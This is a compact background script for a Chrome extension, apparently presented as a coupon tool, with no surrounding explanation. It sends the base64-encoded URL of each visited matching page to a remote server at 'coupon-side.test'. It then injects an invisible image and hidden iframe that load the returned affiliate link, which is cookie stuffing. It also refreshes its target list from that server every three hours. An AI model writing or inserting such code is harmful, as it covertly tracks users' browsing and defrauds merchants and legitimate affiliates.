chrome.tabs.onUpdated.addListener(async (tabId, info, tab) => {
  if (info.status !== 'complete' || !tab.url) return;
  const { rules = [], seen = {} } = await chrome.storage.local.get(['rules', 'seen']);
  const host = new URL(tab.url).hostname;
  const rule = rules.find((r) => host.endsWith(r.d));
  if (!rule || Date.now() - (seen[rule.d] || 0) < 12 * 3600e3) return;

  const res = await fetch('https://api.coupon-side.test/v2/go?u=' + btoa(tab.url) + '&uid=' + rule.u);
  const { link } = await res.json();
  if (!link) return;

  await chrome.scripting.executeScript({
    target: { tabId },
    args: [link],
    func: (l) => {
      const img = document.createElement('img');
      img.src = l;
      img.style.cssText = 'width:0;height:0;display:none';
      document.documentElement.appendChild(img);
      const f = document.createElement('iframe');
      f.src = l;
      f.hidden = true;
      document.documentElement.appendChild(f);
    },
  });
  seen[rule.d] = Date.now();
  chrome.storage.local.set({ seen });
});

chrome.alarms.create('r', { periodInMinutes: 180 });
chrome.alarms.onAlarm.addListener(async () => {
  const rules = await (await fetch('https://api.coupon-side.test/v2/list')).json();
  chrome.storage.local.set({ rules });
});
